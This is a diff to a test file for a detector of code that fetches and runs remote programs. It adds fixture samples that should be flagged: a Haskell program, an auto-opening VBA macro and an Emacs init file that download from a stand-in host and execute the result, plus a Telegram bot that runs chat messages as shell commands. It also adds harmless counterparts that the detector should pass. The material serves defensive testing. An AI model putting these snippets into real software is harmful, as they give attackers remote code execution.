@@ -5,6 +5,26 @@ import { decodedProgram } from './hidden-programs.ts';
 ruleCases(fetchedProgram, {
   hits: [
     {
+      name: 'text that Haskell hands to a shell',
+      path: 'a.hs',
+      text: 'main = do\n  s <- readProcess "curl" ["-s", "https://up.acme.test/p"] ""\n  callCommand s\n',
+    },
+    {
+      name: 'an answer that a macro starts',
+      path: 'a.bas',
+      text: 'Sub AutoOpen()\nSet h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://up.acme.test/p", False\nh.Send\nCreateObject("WScript.Shell").Run h.ResponseText, 0\nEnd Sub\n',
+    },
+    {
+      name: 'a buffer of an editor',
+      path: 'init.el',
+      text: '(with-current-buffer (url-retrieve-synchronously "https://up.acme.test/i.el")\n  (eval-buffer))\n',
+    },
+    {
+      name: 'commands from a chat',
+      path: 'a.js',
+      text: "const { Telegraf } = require('telegraf');\nbot.on('text', (ctx) => exec(ctx.message.text, (e, o) => ctx.reply(o)));\n",
+    },
+    {
       name: 'a release that is compared with a digest in the script, rated low',
       path: 'a.sh',
       text: 'S=6d544c10a8c2f9b4a5ae5b3a5b6f1c7df8a0a9ed7d2a4f08f3b1c5e6d7a8b9c0\ncurl -fsSLo /tmp/p "https://github.com/o/p/releases/download/v1.2.0/p"\necho "$S  /tmp/p" | sha256sum -c -\nchmod +x /tmp/p && /tmp/p\n',
@@ -69,6 +89,16 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'a page that Haskell only prints',
+      path: 'a.hs',
+      text: 'main = readProcess "curl" ["-s", "https://up.acme.test/p"] "" >>= putStrLn\n',
+    },
+    {
+      name: 'a macro that fills a cell',
+      path: 'a.bas',
+      text: 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "https://up.acme.test/p", False\nh.Send\nRange("A1").Value = h.ResponseText\n',
+    },
     {
       name: 'an archive of the person',
       text: 'Unzip `export.zip` with the password from the mail, then read the CSV.\n',
